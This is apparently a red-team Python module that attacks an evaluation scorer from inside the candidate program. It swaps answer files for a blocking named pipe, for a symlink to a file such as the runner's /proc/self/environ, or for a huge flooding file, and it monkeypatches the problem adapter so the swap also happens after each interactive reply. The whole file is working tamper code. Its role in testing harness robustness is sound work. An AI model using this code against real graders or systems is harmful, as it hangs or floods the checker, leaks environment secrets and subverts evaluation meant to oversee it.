# --- red-team attack: swap what the trusted side reads for something that hangs, leaks or floods it ------
# Parameters (ATTACK): mode -- "fifo" (a named pipe nobody writes), "symlink" (a link to `link_to`, e.g. the
# runner's own /proc/self/environ), or "giant" (one endless line, up to `bytes` or the file-size limit).
# Non-interactive problems: the answers file is swapped and the program exits. Interactive ones: every
# file the scorer asks the candidate to write (a message's path inside the working directory) is swapped
# after the honest reply, so the scorer reads the swapped file.


def _redteam_swap(path, params):
    import contextlib
    import os

    with contextlib.suppress(OSError):
        os.unlink(path)
    mode = params["mode"]
    if mode == "fifo":
        os.mkfifo(path)
    elif mode == "symlink":
        os.symlink(params["link_to"], path)
    elif mode == "giant":
        chunk = b'{"event": "scenario", "name": "' + b"9" * (1 << 20)
        written = 0
        try:
            with open(path, "wb") as handle:
                while written < params.get("bytes", 1 << 30):
                    handle.write(chunk)
                    written += len(chunk)
        except OSError:
            pass
    print(f"REDTEAM swap-{mode} done {path}", flush=True)


def _redteam_answer_files(params):
    import json
    import os
    import sys

    here = os.getcwd()
    with open(os.path.join(here, "request.json")) as handle:
        request = json.load(handle)
    if not request.get("channel"):
        _redteam_swap(request["answers"], params)
        os._exit(0)
    adapter = sys.modules["engram_problem_adapter"]
    honest = adapter.handle

    def handle(entry, message, context):
        reply = honest(entry, message, context)
        for value in message.values() if isinstance(message, dict) else ():
            if isinstance(value, str) and value.startswith(here) and os.path.isfile(value):
                _redteam_swap(value, params)
        return reply

    adapter.handle = handle


_redteam_answer_files(ATTACK)
